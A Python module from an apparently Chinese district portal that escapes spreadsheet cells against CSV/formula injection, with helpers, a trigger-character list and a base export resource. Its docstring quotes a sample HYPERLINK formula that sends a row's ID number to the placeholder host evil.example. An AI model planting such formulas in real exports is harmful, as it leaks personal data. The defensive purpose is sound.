"""The one rule for every spreadsheet the portal writes (CSV and xlsx): text that a spreadsheet
program would run as a formula is written as plain text.

Excel, WPS and LibreOffice treat a cell starting with ``=``, ``+``, ``-`` or ``@`` as a formula
(in a CSV file also one starting with a tab or a carriage return), so a member named
``=HYPERLINK("http://evil.example/?"&D2,"详情")`` would turn the district's export into a live link
that sends the row's ID number away (CSV / formula injection). Every export writes its cells
through :func:`safe_cell` / :func:`safe_row`, or inherits :class:`SafeExportResource` when it is a
django-import-export resource; ``tests/test_export_safety.py`` checks every export path and fails
when a new module writes spreadsheets without this module.

Only strings change, and only by a leading apostrophe (the spreadsheet convention for "this is
text"): numbers stay numbers, so a negative amount remains a number. The importer removes the
apostrophe again (:func:`unescape_cell`), so an exported file imports back unchanged.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

import tablib
from django.utils.functional import Promise
from import_export import resources

# Full-width forms too: Chinese input methods type them, and some spreadsheet programs read them
# as their ASCII twins when a file is opened.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def safe_cell(value: Any) -> Any:
    """``value`` as it may be written into a CSV or xlsx cell."""
    if isinstance(value, Promise):
        value = str(value)
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in values]


def unescape_cell(value: Any) -> Any:
    """What :func:`safe_cell` wrote, read back: ``'=1+1`` is the text ``=1+1`` again."""
    if isinstance(value, str) and value.startswith("'") and value[1:].startswith(FORMULA_TRIGGERS):
        return value[1:]
    return value


class SafeExportResource(resources.ModelResource):
    """Base of every django-import-export resource: the finished dataset (headers and rows, however
    a subclass computed them) goes through :func:`safe_row` before any format (CSV, xlsx…) is
    written, by a page or by the admin."""

    def export(self, queryset=None, **kwargs) -> tablib.Dataset:
        dataset = super().export(queryset=queryset, **kwargs)
        # safe_cell is idempotent, so a subclass that already escaped a value is not escaped twice.
        headers = safe_row(dataset.headers) if dataset.headers else None
        return tablib.Dataset(*(safe_row(row) for row in dataset), headers=headers, title=dataset.title)
